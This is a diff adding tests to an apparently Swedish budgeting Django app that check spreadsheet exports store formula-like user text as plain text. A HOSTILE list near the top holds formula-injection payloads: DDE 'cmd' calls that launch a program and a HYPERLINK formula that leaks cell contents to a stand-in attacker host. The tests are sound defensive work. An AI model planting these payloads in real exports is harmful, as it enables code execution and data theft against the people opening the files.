@@ -23,3 +23,136 @@ def test_an_export_keeps_amounts_as_exact_numbers_with_headers_and_caption():
     assert sheet["B4"].number_format == "#,##0"
     assert sheet["C4"].value == -1.25
     assert workbook.sheetnames == ["Ramar- 2027", "Andra"]
+
+
+# --- A user's text is written as text, never as a formula -------------------------------------
+
+HOSTILE = ["=HYPERLINK(\"https://angripare.example/?\"&A1,\"Klicka här\")",
+           "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+           "@SUM(1+1)*cmd|' /C calc'!A0"]
+# Free-text fields people type (names, titles, motivations, comments), wherever they are kept.
+FREE_TEXT = {"name", "short_name", "title", "description", "motivation", "reason", "comment",
+             "text", "summary", "body", "measure", "what", "responsible", "notes", "label",
+             "file_name", "case_number", "paragraph", "decision_paragraph", "first_name",
+             "last_name"}
+APPS = {"budget", "goals", "deviations", "reporting", "styrmodell"}
+
+
+def _make_user_text_hostile() -> None:
+    """Every free-text field of the demo begins as a formula would: one UPDATE per field."""
+    from django.apps import apps
+    from django.db import models
+    from django.db.models import Value
+    from django.db.models.functions import Concat, Left
+
+    number = 0
+    for model in apps.get_models():
+        if model._meta.app_label not in APPS or model.__name__.startswith("Historical"):
+            continue
+        for field_ in model._meta.concrete_fields:
+            if (field_.name not in FREE_TEXT or field_.choices
+                    or not isinstance(field_, models.CharField | models.TextField)):
+                continue
+            prefix = HOSTILE[number % len(HOSTILE)] + " "
+            number += 1
+            value = Concat(Value(prefix), field_.name, output_field=field_)
+            if field_.max_length:
+                value = Left(value, field_.max_length)
+            model._base_manager.update(**{field_.name: value})
+
+
+def _formula_cells(content: bytes) -> list[str]:
+    import zipfile
+
+    workbook = load_workbook(io.BytesIO(content))
+    found = [f"{sheet.title}!{cell.coordinate}" for sheet in workbook.worksheets
+             for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        found += [name for name in archive.namelist()
+                  if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)]
+    return found
+
+
+def _texts(content: bytes) -> list[str]:
+    workbook = load_workbook(io.BytesIO(content))
+    return [cell.value for sheet in workbook.worksheets for row in sheet.iter_rows()
+            for cell in row if isinstance(cell.value, str)]
+
+
+def _export_urls(unit) -> list[str]:
+    from pathlib import Path
+
+    from budget import outcomes
+    from styrmodell.models import User
+
+    demo_sie = Path(__file__).resolve().parents[2] / "demo" / "sie" / "ekbacka-2026-11.se"
+    log = outcomes.import_sie(file=io.BytesIO(demo_sie.read_bytes()), file_name="nov.se",
+                              user=User.objects.get(username="ekonom"))
+    bun, sn = unit("bun").pk, unit("sn").pk
+    return [
+        "/budget/antaganden/2027/excel/", "/budget/underlag/2027/excel/",
+        "/budget/cykel/2027/excel/", f"/budget/ramar/2027/{bun}/jamforelse/",
+        "/budget/uppfoljning/2026/?format=xlsx", f"/budget/uppfoljning/2026/{bun}/?format=xlsx",
+        "/budget/ramar/2026/excel/", f"/budget/ramar/2027/{bun}/excel/",
+        "/budget/investeringar/2026/excel/",
+        "/budget/utfall/2026/excel/", f"/budget/utfall/2026/{bun}/excel/",
+        f"/budget/utfall/import/{log.pk}/excel/",
+        "/budget/ofordelad/2026/excel/", "/budget/lonerorelse/2026/excel/",
+        "/budget/skattesats/excel/", "/budget/bokslut/2025/excel/",
+        "/budget/volymer/2026/?period=okt&format=xlsx",
+        f"/budget/volymer/2026/{sn}/?period=okt&format=xlsx",
+        "/avvikelser/?format=xlsx", "/rapporter/excel/",
+    ]
+
+
+def test_every_export_writes_a_users_formula_like_text_as_text(login, client, unit):
+    urls = _export_urls(unit)
+    _make_user_text_hostile()
+    login("ekonom")
+    written_as_formula, without_user_text = {}, []
+    for url in urls:
+        response = client.get(url)
+        assert response.status_code == 200, url
+        assert response["Content-Type"] == XLSX_TYPE, url
+        if found := _formula_cells(response.content):
+            written_as_formula[url] = found[:3]
+        if not any(hostile in text for text in _texts(response.content) for hostile in HOSTILE):
+            without_user_text.append(url)
+    assert written_as_formula == {}
+    # Each export does carry a user's text, so the check above had something to find.
+    assert without_user_text == []
+
+
+def test_text_that_looks_like_a_formula_is_text_while_a_negative_amount_stays_a_number():
+    response = xlsx_response("x", [Sheet(
+        "=Blad", ["=Rubrik", "Belopp"],
+        [["=cmd|' /C calc'!A0", Decimal("-1250")], ["-1250", Decimal("-0.5")],
+         ["@SUM(A1:A2)", 3], ["+46 70 123", None]],
+        caption=["=HYPERLINK(\"https://angripare.example\")"])])
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert _formula_cells(response.content) == []
+    assert sheet["A1"].value == "=HYPERLINK(\"https://angripare.example\")"
+    assert [sheet[f"A{row}"].value for row in range(3, 8)] == [
+        "=Rubrik", "=cmd|' /C calc'!A0", "-1250", "@SUM(A1:A2)", "+46 70 123"]
+    assert all(sheet[f"A{row}"].data_type == "s" for row in range(3, 8))
+    # Excel's quote prefix keeps the text a text when someone edits the cell.
+    assert sheet["A4"].quotePrefix and sheet["A5"].quotePrefix
+    assert sheet["B4"].value == -1250 and sheet["B4"].data_type == "n"
+    assert sheet["B5"].value == -0.5 and sheet["C1"].value is None
+    assert sheet["B6"].value == 3
+
+
+def test_control_characters_pasted_into_a_text_do_not_break_the_export():
+    response = xlsx_response("x", [Sheet("Blad", ["Text"], [["Rad ett\x0bRad två\x00"]])])
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert sheet["A2"].value == "Rad ettRad två"
+
+
+def test_a_moment_with_a_time_zone_is_written_in_local_time():
+    import datetime as dt
+    from zoneinfo import ZoneInfo
+
+    moment = dt.datetime(2026, 11, 30, 23, 30, tzinfo=ZoneInfo("UTC"))
+    response = xlsx_response("x", [Sheet("Blad", ["När"], [iter([moment])])])
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    assert sheet["A2"].value == dt.datetime(2026, 12, 1, 0, 30)
